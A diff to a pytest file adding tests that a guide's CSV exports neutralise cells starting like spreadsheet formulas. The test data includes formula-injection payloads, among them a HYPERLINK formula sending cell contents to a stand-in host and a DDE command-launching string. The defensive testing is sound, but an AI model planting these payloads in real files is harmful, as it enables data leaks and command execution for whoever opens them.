@@ -18,7 +18,7 @@ import pytest
 import yaml
 from bs4 import BeautifulSoup, SoupStrainer
 from conftest import PUBLIC, ROOT, TODAY
-from guide.api import TABLES, data_files
+from guide.api import TABLES, data_files, harmless
 from guide.compile import prepare
 from guide.library import load
 from guide.publication import publication_of
@@ -118,6 +118,8 @@ def test_csv_holds_the_same_cells_as_json(site, data):
         assert raw.endswith(b"\r\n")
         rows = list(csv.DictReader(io.StringIO(raw.decode(), newline="")))
         licence = "CC-BY-4.0, except the column claim" if name == "claims" else "CC-BY-4.0"
+        # Only in CSV a text that starts like a formula has an apostrophe before it.
+        rows = [{name: re.sub(r"^'(?=[=+\-@\t\r\n])", "", value) for name, value in row.items()} for row in rows]
         assert rows and all(row.pop("version") == data["index"]["version"] and row.pop("licence") == licence for row in rows)
         return rows
 
@@ -131,6 +133,46 @@ def test_csv_holds_the_same_cells_as_json(site, data):
     assert sheet("results") == [flat(result, "arms") for result in results]
     assert sheet("arms") == [{"result": result["id"], "place": str(place), **flat(arm)} for result in results for place, arm in enumerate(result["arms"], 1)]
     assert sheet("values") == [{"statement": record["id"], "name": name, **flat(value)} for record in data["statements"]["statements"] for name, value in record["values"].items()]
+
+
+FORMULAS = ("=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"see\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(1;2)", "\t=1+1", "\r=1+1", "\n=1+1", "- an item of a list", "\uff1d1+1", "-4 to -2")
+NUMERALS = ("-3", "+2.5", "-0.4", "12", "")
+
+
+def test_a_text_that_starts_like_a_formula_is_made_harmless_and_a_number_is_left_alone():
+    assert [harmless(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
+    assert [harmless(text) for text in NUMERALS] == list(NUMERALS)
+    assert [harmless(value) for value in (-3, 2.5, None, True)] == [-3, 2.5, None, True]
+    assert [harmless(text) for text in ("a = b", "4 mg", "'quoted'", "−1.2 points")] == ["a = b", "4 mg", "'quoted'", "−1.2 points"]
+
+
+def test_no_cell_of_a_csv_file_can_start_a_formula(site):
+    """Every cell of every file of the real guide, its differences below nothing among them."""
+    negative = 0
+    for path in sorted((site / "api/v1").glob("*.csv")):
+        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
+            for value in row:
+                number = re.fullmatch(r"[+-]?\d+(\.\d+)?", value)
+                negative += bool(number) and value.startswith("-")
+                assert number or not re.match(r"[=+\-@\t\r\n\0]", value), (path.name, value[:60])
+    assert negative > 0, "no number below nothing: the test looks at nothing"
+
+
+def test_hostile_text_of_every_table_stays_text_in_a_spreadsheet_and_whole_in_json(tiny):
+    """A formula in a title, a wording, a name and a term, through the whole way from YAML to the files."""
+    formula = '=HYPERLINK("https://evil.example/","see")'
+    for name, old in (("sources.yml", r"(?m)^(\s+(?:- )?title: ).*$"), ("glossary.yml", r"(?m)^(\s+patient: ).*$"), ("trials/other-trial.yml", r"(?m)^(name: ).*$"),
+                      ("topics/examplinib-ed/claims.yml", r"(?m)^(\s+claim: ).*$")):
+        path = tiny / "content" / name
+        text, count = re.subn(old, lambda match: match[1] + json.dumps(formula), path.read_text(), count=1)
+        assert count == 1, name
+        path.write_text(text)
+    built = prepare(tiny, TODAY, release=False)
+    files = data_files(built.library, built.pages, publication_of(built.library, tiny))
+    for name in ("sources", "glossary", "trials", "claims"):
+        cells = [value for row in csv.reader(io.StringIO(files[f"api/v1/{name}.csv"].decode(), newline="")) for value in row]
+        assert f"'{formula}" in cells and formula not in cells, name
+        assert formula in [value for _, value in walk(json.loads(files[f"api/v1/{name}.json"]))], name
 
 
 def test_nothing_for_editors_gets_out(site, data):
